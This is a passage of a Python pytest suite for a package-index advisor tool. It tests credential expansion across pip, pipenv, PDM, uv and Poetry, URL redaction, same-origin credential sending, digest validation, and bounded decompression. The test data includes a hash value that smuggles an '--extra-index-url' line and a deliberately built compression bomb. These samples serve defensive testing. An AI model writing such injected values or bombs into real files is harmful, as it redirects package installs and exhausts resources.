            '[[source]]\nname = "p"\nurl = "{url}"\nverify_ssl = true\n\n[packages]\nddtrace = "==2.21.4"\n',
            True,
        ),  # pipenv
        ("Pipfile.lock", PIPFILE_LOCK, True),  # pipenv, when it installs from the lock
        (
            "pyproject.toml",
            PEP621 + '[[tool.pdm.source]]\nname = "p"\nurl = "{url}"\n',
            True,
        ),  # PDM
        (
            "pyproject.toml",
            PEP621 + '[[tool.uv.index]]\nname = "p"\nurl = "{url}"\ndefault = true\n',
            False,
        ),
        ("pyproject.toml", PEP621 + '[[tool.poetry.source]]\nname = "p"\nurl = "{url}"\n', False),
        ("uv.lock", UV_LOCK, False),
    ],
    ids=["requirements", "Pipfile", "Pipfile.lock", "pdm", "uv", "poetry", "uv.lock"],
)
def test_variables_are_expanded_only_where_the_files_tool_expands_them(
    name: str, text: str, expanded: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``${NAME}`` in a source's ``user:password@``: pip, pipenv and PDM expand it; uv, Poetry
    and a lock's registry URL are taken literally (what those tools send)."""
    with LocalIndex(root=DATA) as index:
        url = index.url.replace("http://", "http://alice:${AAP_TEST_TOKEN}@")
        (tmp_path / name).write_text(text.replace("{url}", url))
        code = main([str(tmp_path / name), "--cache-dir", str(tmp_path / "c"), *ARGS])
        auth = {r.headers.get("Authorization") for r in index.requests}
    out = capsys.readouterr()
    assert code == 1, out.err
    assert auth == {_basic("alice", SECRET if expanded else "${AAP_TEST_TOKEN}")}
    assert SECRET not in out.out + out.err


@pytest.mark.usefixtures("clean_env")
def test_pdm_expands_variables_in_the_userinfo_only(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """PDM expands ``${NAME}`` in a source's ``user:password@`` only: one in its path is sent as
    written (pip would have expanded it: see the requirements case of the test above)."""
    with LocalIndex(root=DATA, prefix=f"/{SECRET}") as index:
        pyproject = tmp_path / "pyproject.toml"
        pyproject.write_text(
            PEP621
            + f'[[tool.pdm.source]]\nname = "p"\nurl = "{index.base}/${{AAP_TEST_TOKEN}}/simple/"\n'
        )
        main([str(pyproject), "--cache-dir", str(tmp_path / "c"), *ARGS])
        paths = [r.path for r in index.requests]
    out = capsys.readouterr()
    assert paths and all("AAP_TEST_TOKEN" in p and SECRET not in p for p in paths), paths
    assert SECRET not in out.out + out.err


# --- pieces, on their own -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://user:p@ss@host/simple/", "https://host/simple/"),
        ("https://u:a@b@c@host:8443/x?y=1@2", "https://host:8443/x?y=1@2"),
        ("https://host/simple/@not-userinfo/", "https://host/simple/@not-userinfo/"),
        ("error: https://a:b@h/ and http://c:d@e@f/x", "error: https://h/ and http://f/x"),
        ("no url here", "no url here"),
    ],
)
def test_redaction_removes_the_whole_userinfo(url: str, shown: str) -> None:
    from advisor.index.urls import redact

    assert redact(url) == shown


@pytest.mark.parametrize(
    ("index", "request_url", "sent"),
    [
        ("https://u:p@h.example/simple/", "https://h.example/files/x.whl", True),
        ("https://u:p@h.example/simple/", "http://h.example/files/x.whl", False),  # default ports
        ("https://u:p@h.example:8443/simple/", "http://h.example:8443/files/x.whl", False),
        ("https://u:p@h.example/simple/", "https://h.example:8443/files/x.whl", False),
        ("https://u:p@h.example/simple/", "https://files.example/x.whl", False),
        ("http://u:p@h.example/simple/", "https://h.example/simple/x/", True),  # an upgrade
    ],
)
def test_credentials_only_for_the_same_scheme_host_and_port(
    index: str, request_url: str, sent: bool
) -> None:
    import httpx

    from advisor.index.http import IndexAuth

    assert (IndexAuth([index]).credentials(httpx.URL(request_url)) is not None) is sent


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("sha256:" + "ab" * 32, True),
        ("sha384:" + "ab" * 48, True),
        ("sha512:" + "AB" * 64, True),
        ("sha256:" + "ab" * 31, False),
        ("sha256:" + "ab" * 32 + "\n--extra-index-url http://x/", False),
        ("sha256:" + "zz" * 32, False),
        ("md5:" + "ab" * 16, False),
        ("sha256 :" + "ab" * 32, False),
    ],
)
def test_only_well_formed_digests_are_written(value: str, ok: bool) -> None:
    from advisor.write.hashes import checked

    if ok:
        assert checked([value], "x 1") == [value.lower()]
    else:
        with pytest.raises(IndexUnavailable, match="malformed"):
            checked([value], "x 1")


def test_a_gzip_body_is_decoded_in_bounded_steps() -> None:
    # The decoder never holds more than one step of output, however far the input inflates.
    from advisor.index.http import _STEP, _Decoder

    bomb = zlib.compress(b"\0" * (64 * 1024 * 1024), 9)
    pieces: Iterator[bytes] = _Decoder("deflate", "x").feed(bomb)
    sizes = [len(next(pieces)) for _ in range(64)]
    assert max(sizes) <= _STEP


def test_an_sdist_is_read_within_the_runs_deadline() -> None:
    # The deadline is checked on every read of the inflated tar, not only between requests.
    from advisor.index.http import Deadline
    from advisor.index.source import _pkg_info

    class Expiring(Deadline):
        """A deadline that passes after 100 checks (no clock involved)."""

        checks = 0

        def passed(self) -> bool:
            self.checks += 1
            return self.checks > 100

    clock = Expiring(60)
    with pytest.raises(IndexUnavailable) as caught:
        _pkg_info(sdist_bomb("tar.gz"), "envier-0.6.1.tar.gz", clock)
    assert caught.value.code == "deadline" and clock.checks == 101


@pytest.mark.parametrize("coding", ["", "gzip"])
def test_a_body_sent_in_small_pieces_is_read_in_steps(coding: str) -> None:
    # A body comes a TLS record (16 KiB) at a time or less; it goes up to the page reader in
    # steps of _STEP bytes, byte for byte the same body, whatever its coding.
    import httpx

    from advisor.index.http import _STEP, iter_capped

    body = random.Random(0).randbytes(1024 * 1024)  # gzip leaves it as large
    sent = gzip.compress(body) if coding else body
    chunks = [sent[i : i + 1000] for i in range(0, len(sent), 1000)]
    headers = {"content-encoding": coding} if coding else {}

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, headers=headers, content=iter(chunks))

    with (
        httpx.Client(transport=httpx.MockTransport(handler)) as client,
        client.stream("GET", "https://index.example/x/") as response,
    ):
        assert not response.is_stream_consumed  # the streamed path, not the in-memory one
        got = list(iter_capped(response, len(body), "x"))
    assert b"".join(got) == body
    assert max(map(len, got)) <= _STEP
    assert len(got) < len(chunks) // 8  # some 60 chunks a piece, not one
